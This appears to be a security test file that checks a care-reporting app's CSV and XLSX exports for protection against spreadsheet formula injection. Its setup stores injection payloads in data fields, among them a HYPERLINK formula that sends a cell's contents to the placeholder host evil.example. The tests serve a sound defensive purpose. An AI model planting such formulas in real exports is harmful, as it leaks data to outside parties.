import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { TestApp } from "../app/testing.ts";
import { evbTestApp } from "./testing.ts";

const hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")';
const atSum = "@SUM(1)";
const minus = "-1+1";

let t: TestApp;
const node = (key: string) => t.demo.nodes[key]?.id as string;
const exportUrl = (format: string, part = "ivo") =>
  `/api/evb/reports/2023Q4/export?orgNodeId=${node("ifo")}&format=${format}&part=${part}`;

beforeAll(async () => {
  t = await evbTestApp();
  const admin = await t.as("admin");
  const catalogue = (await admin.get(`/api/evb/catalogue?orgNodeId=${node("ifo")}`)).json() as {
    insatser: { id: string; name: string }[];
  };
  const insats = catalogue.insatser.find((i) => i.name === "Bostad med särskild service");
  expect((await admin.patch(`/api/evb/catalogue/insatser/${insats?.id}`, { name: hyperlink })).statusCode).toBe(200);
  const unit = (await admin.patch(`/api/org/nodes/${node("bss-almen")}`, { name: atSum })).statusCode;
  expect(unit).toBe(200);
  const k = await t.as("kvalitet");
  const { decisions } = (await k.get("/api/evb/decisions?personId=19920404-T053")).json() as {
    decisions: { id: string; personId: string }[];
  };
  const decision = decisions.find((d) => d.personId === "19920404-T053");
  expect((await k.patch(`/api/evb/decisions/${decision?.id}`, { reasonText: minus })).statusCode).toBe(200);
});
afterAll(() => t.close());

describe("CSV downloads", () => {
  it("prefix formula-like text with an apostrophe in the IVO list and keep day counts numeric", async () => {
    const res = await (await t.as("kvalitet")).get(exportUrl("csv"));
    expect(res.statusCode).toBe(200);
    const cells = res.body.split("\r\n").map((l) => l.split(";"));
    const line = cells.find((c) => c.includes("19920404-T053")) ?? [];
    // The insats contains ; and " so it is also quoted, with the apostrophe inside the quotes.
    expect(res.body).toContain(`"'${hyperlink.replace(/"/g, '""')}"`);
    expect(line).toContain(`'${minus}`);
    expect(line).toContain("655");
    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^"?[=+\-@\t\r]/);
  });

  it("neutralise a unit named like a formula in the committee table", async () => {
    const res = await (await t.as("kvalitet")).get(exportUrl("csv", "committee"));
    expect(res.statusCode).toBe(200);
    const units = res.body.split("\r\n").map((l) => l.split(";")[0]);
    expect(units).toContain(`'${atSum}`);
    expect(units).not.toContain(atSum);
  });
});

describe("XLSX download", () => {
  it("keeps formula-like text as string cells and writes no formula", async () => {
    const res = await (await t.as("kvalitet")).get(exportUrl("xlsx"));
    expect(res.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const found = new Map<string, ExcelJS.ValueType>();
    for (const sheet of workbook.worksheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if ([hyperlink, atSum, minus].includes(cell.value as string)) found.set(cell.value as string, cell.type);
        }),
      );
    }
    expect(Object.fromEntries(found)).toEqual({
      [hyperlink]: ExcelJS.ValueType.String,
      [atSum]: ExcelJS.ValueType.String,
      [minus]: ExcelJS.ValueType.String,
    });
  });
});
